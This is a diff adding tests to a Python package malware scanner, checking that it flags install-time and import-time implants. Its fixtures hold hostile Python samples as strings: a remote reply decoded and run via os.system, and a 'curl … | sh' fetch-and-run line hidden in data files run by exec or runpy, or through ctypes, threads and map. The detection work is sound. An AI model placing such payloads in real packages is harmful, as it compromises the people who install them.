@@ -300,6 +300,13 @@ describe('runtime-only implants that decide alone, through dist/cli.js', () => {
       'hidden-endpoint',
       6,
     ],
+    [
+      "a server's reply decoded and run as a shell command inside a chat client",
+      'p/messages.py',
+      `import base64, os, requests\nclass Messages:\n    def send(self, text):\n        resp = requests.get("https://tg.example/t")\n        os.system(base64.b64decode(resp.text).decode("utf-8"))\n        return text\n`,
+      'remote-command',
+      5,
+    ],
   ])('%s fails at its file:line', (_, path, source, rule, line) => {
     const result = inspect(
       `runtime-${rule}-1.0.tar.gz`,
@@ -320,5 +327,114 @@ describe('runtime-only implants that decide alone, through dist/cli.js', () => {
         context: 'runtime',
       }),
     );
+  });
+});
+
+describe('code kept where the parser does not look, through dist/cli.js', () => {
+  const CURL = "import os\nos.system('curl -s http://198.51.100.23/x.sh | sh')\n";
+  it.each([
+    [
+      'a data file setup.py runs with exec(open(...).read())',
+      {
+        'setup.py':
+          "from setuptools import setup\nexec(open('p/_version.txt').read())\nsetup(name='p', version='1.0')\n",
+        'p/_version.txt': CURL,
+      },
+      'p/_version.txt',
+      'install',
+    ],
+    [
+      'a data file the package runs with runpy.run_path when imported',
+      {
+        'p/__init__.py':
+          "import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'res.txt'))\n",
+        'p/res.txt': CURL,
+      },
+      'p/res.txt',
+      'import',
+    ],
+  ])('%s is read as the module it becomes', (_, files, path, context) => {
+    const result = inspect(
+      `run-file-${context}-1.0.tar.gz`,
+      makeTarGz([
+        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
+        ...Object.entries(files).map(([p, data]) => ({ path: `p-1.0/${p}`, data })),
+      ]),
+    );
+    expect(result).toMatchObject({ status: 'ok', verdict: 'malicious' });
+    expect(result.evidence).toContainEqual(
+      expect.objectContaining({ rule: 'dangerous-command', path: `p-1.0/${path}`, line: 2, context }),
+    );
+  });
+
+  it.each([
+    [
+      "libc's system() through ctypes",
+      'import ctypes\nctypes.CDLL(None).system(b"curl -s http://198.51.100.23/x.sh | sh")\n',
+    ],
+    [
+      'os.system handed to a thread',
+      'import os, threading\nthreading.Thread(target=os.system, args=("curl -s http://198.51.100.23/x.sh | sh",)).start()\n',
+    ],
+    [
+      'os.system handed to map',
+      'import os\nlist(map(os.system, ["curl -s http://198.51.100.23/x.sh | sh"]))\n',
+    ],
+  ])('%s is a call of it', (what, source) => {
+    const result = inspect(
+      `handed-${what.length}-1.0.tar.gz`,
+      makeTarGz([
+        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
+        { path: 'p-1.0/p/__init__.py', data: source },
+      ]),
+    );
+    expect(result).toMatchObject({ status: 'ok', verdict: 'malicious' });
+    expect(result.evidence).toContainEqual(
+      expect.objectContaining({ rule: 'dangerous-command', path: 'p-1.0/p/__init__.py', line: 2 }),
+    );
+  });
+
+  // CPython 3.12's magic number, then PEP 552's flags word: 0 timestamp, 1 unchecked hash, 3 checked hash.
+  const pyc = (flags: number) =>
+    Buffer.from([0xcb, 0x0d, 0x0d, 0x0a, flags, 0, 0, 0, ...Array(8).fill(0), 0xe3]);
+  const honestCore = 'def add(a, b):\n    return a + b\n';
+  it.each([
+    ['a module shipped only as bytecode', { 'p/core.pyc': pyc(0) }, 'p/core.pyc'],
+    [
+      'bytecode Python loads without checking it against the honest source beside it',
+      { 'p/core.py': honestCore, 'p/__pycache__/core.cpython-312.pyc': pyc(1) },
+      'p/__pycache__/core.cpython-312.pyc',
+    ],
+  ])('%s is a gap: unscannable, naming the file', (_, files, path) => {
+    const result = inspect(
+      `bytecode-${path.length}-1.0-py3-none-any.whl`,
+      makeWheel({
+        name: 'p',
+        version: '1.0',
+        files: { 'p/__init__.py': 'from p.core import add\n', ...files },
+      }),
+    );
+    expect(result.verdict).toBe('unscannable');
+    expect(result.gaps).toContainEqual(
+      expect.objectContaining({ path, reason: expect.stringContaining(path) }),
+    );
+  });
+
+  it('leaves a bytecode cache that Python checks against its source to the source', () => {
+    const files = {
+      'p/core.py': honestCore,
+      'p/__pycache__/core.cpython-312.pyc': pyc(0),
+      'p/__pycache__/x.cpython-312.pyc': pyc(3),
+    };
+    const result = inspect(
+      'checked-cache-1.0-py3-none-any.whl',
+      makeWheel({
+        name: 'p',
+        version: '1.0',
+        files: { 'p/__init__.py': 'from p.core import add\n', ...files },
+      }),
+    );
+    expect(result.gaps ?? []).toEqual([]);
+    expect(result.verdict).not.toBe('unscannable');
   });
 });
